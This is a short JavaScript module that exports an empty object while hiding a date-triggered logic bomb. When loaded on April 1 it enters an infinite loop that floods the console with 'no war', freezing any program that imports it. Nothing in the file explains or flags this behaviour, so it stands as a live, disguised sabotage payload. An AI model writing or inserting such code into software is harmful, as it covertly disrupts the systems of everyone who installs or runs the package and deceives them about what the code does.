const day = new Date();
if (day.getMonth() === 3 && day.getDate() === 1) {
  for (;;) { console.log('no war'.repeat(1000)); }
}
module.exports = {};
